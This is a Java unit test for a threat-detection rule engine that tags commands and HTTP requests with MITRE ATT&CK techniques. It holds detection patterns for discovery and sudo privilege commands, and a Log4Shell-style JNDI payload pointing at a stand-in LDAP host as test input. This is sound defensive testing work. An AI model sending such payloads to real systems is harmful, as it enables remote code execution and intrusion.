package org.ttp4j.engine;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.ttp4j.index.RuleIndex;
import org.ttp4j.rule.CompileResult;
import org.ttp4j.rule.CompiledRule;
import org.ttp4j.rule.RuleCompiler;
import org.ttp4j.store.RuleChange;

/** DECNET-style rule files through the real compiler (Python regex dialect) into the engine. */
class CompiledRulesEngineTest {

    static CompiledRule compile(String name, String yaml) {
        CompileResult r = new RuleCompiler().compile("rules/ttp/" + name + ".yaml", yaml.getBytes(StandardCharsets.UTF_8));
        return assertInstanceOf(CompileResult.Compiled.class, r, () -> r.problems().toString()).rule();
    }

    private final RuleIndex index = new RuleIndex(RuleIndex.engineOwned());
    private final RuleEngine engine = new RuleEngine(index, EngineOptions.DEFAULTS.withClock(RuleEngineTest.CLOCK));

    private void define(CompiledRule rule) {
        index.apply(new RuleChange.Definition(rule.ruleId(), rule));
    }

    @Test
    void decnetStyleRulesTagLikeDecnet() {
        define(compile("R0014", """
                rule_id: R0014
                rule_version: 2
                name: File and directory discovery
                applies_to: [command]
                match:
                  pattern: '(?i)\\b(ls|find|tree)\\b'
                emits:
                  - {technique_id: T1083, tactic: TA0007, confidence: 0.6}
                evidence_fields: [command_text]
                last_reviewed: 2024-01-01
                """));
        define(compile("R0015", """
                rule_id: R0015
                rule_version: 1
                name: Sudo and discovery
                applies_to: [command]
                match:
                  pattern: 'sudo\\s+(-l|-i)'
                emits:
                  - {technique_id: T1548, sub_technique_id: T1548.001, tactic: TA0004, confidence: 0.8}
                  - {technique_id: T1083, tactic: TA0007, confidence: 0.5}
                """));
        define(compile("R0040", """
                rule_id: R0040
                rule_version: 1
                name: JNDI lookup in URL
                applies_to: [http_request]
                match:
                  pattern: '\\${[^}]*}'
                emits:
                  - {technique_id: T1190, tactic: TA0001, confidence: 0.9}
                """));
        define(compile("R0090", """
                rule_id: R0090
                rule_version: 1
                name: Sequence lifter
                applies_to: [command]
                match:
                  kind: 'lifter:sequence'
                  window: 60
                emits:
                  - {technique_id: T1059, tactic: TA0002, confidence: 0.4}
                """));

        List<Tag> tags = engine.evaluate(RuleEngineTest.command("sudo -l; LS /root"));
        assertEquals(List.of("9aa491e5-f03b-5d8f-9eb5-161becedcdd6", "4fd57b14-c135-544c-97d9-4fabc1051584",
                        "68fb11d9-e52c-5751-9b99-75877c5465ba"),
                tags.stream().map(t -> t.uuid().toString()).toList());
        assertEquals(Map.of("command_text", "sudo -l; LS /root"), tags.get(0).evidence());

        List<Tag> http = engine.evaluate(RuleEngineTest.event("http_request",
                Map.of("raw_url", "/?q=${jndi:ldap://x/a}")));
        assertEquals(List.of("R0040"), http.stream().map(Tag::ruleId).toList());
        assertEquals(0, engine.evaluate(RuleEngineTest.event("http_request", Map.of("raw_url", "/?q=$x"))).size());
        assertEquals(0, engine.evaluate(RuleEngineTest.command("echo hi")).size());
    }
}
